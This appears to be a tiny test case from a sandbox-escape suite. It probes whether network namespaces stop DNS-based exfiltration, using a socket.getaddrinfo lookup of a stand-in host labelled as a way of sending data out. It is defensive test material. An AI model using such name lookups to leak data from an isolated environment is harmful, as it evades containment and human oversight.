# /// attack
# does = "sends what it knows out by looking up names"
# wall = "namespaces"
# ///
# %%
import socket
attempt("a name", socket.getaddrinfo, "vault-mark.example.com", 80)
